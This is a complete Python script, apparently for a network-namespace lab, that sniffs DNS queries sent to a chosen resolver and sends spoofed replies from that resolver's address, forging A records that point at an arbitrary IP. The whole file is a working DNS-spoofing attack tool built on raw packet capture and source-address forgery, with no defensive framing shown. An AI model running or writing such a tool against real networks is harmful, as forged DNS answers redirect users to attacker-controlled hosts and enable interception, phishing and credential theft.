"""Forges the answer to a DNS query that somebody else was sent.

  forge_dns.py see ADDRESS            prints the first queries to ADDRESS that pass this namespace, a line each
  forge_dns.py answer ADDRESS IP      reads such lines, and sends for each the answer that ADDRESS would: IP
"""
import socket
import struct
import sys
import time

SECONDS = 5


def see(address):
    wanted = socket.inet_aton(address)
    # Every packet of every interface, from its IP header on (packet(7)).
    every = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    every.settimeout(0.2)
    end = time.monotonic() + SECONDS
    seen = set()
    while time.monotonic() < end:
        try:
            packet = every.recv(4096)
        except TimeoutError:
            continue
        header = (packet[0] & 15) * 4
        if packet[9] != 17 or packet[16:20] != wanted:
            continue
        source, port = struct.unpack("!HH", packet[header : header + 4])
        line = f"{socket.inet_ntoa(packet[12:16])} {source} {packet[header + 8 :].hex()}"
        if port == 53 and line not in seen:
            seen.add(line)
            print(line, flush=True)


def answer(address, ip):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for line in sys.stdin:
        to, port, query = line.split()
        query = bytes.fromhex(query)
        end = query.index(0, 12) + 5
        if query[end - 4 : end - 2] != b"\0\1":
            continue
        record = b"\xc0\x0c\0\1\0\1" + struct.pack("!IH", 60, 4) + socket.inet_aton(ip)
        message = query[:2] + b"\x85\x80\0\1\0\1\0\0\0\0" + query[12:end] + record
        # A UDP checksum of zero is none (RFC 768); the kernel fills in the header's.
        datagram = struct.pack("!HHHH", 53, int(port), 8 + len(message), 0) + message
        header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), 0, 0, 64, 17, 0)
        header += socket.inet_aton(address) + socket.inet_aton(to)
        for _ in range(3):
            raw.sendto(header + datagram, (to, 0))
        print(f"forged for {to} port {port}", flush=True)


{"see": see, "answer": answer}[sys.argv[1]](*sys.argv[2:])
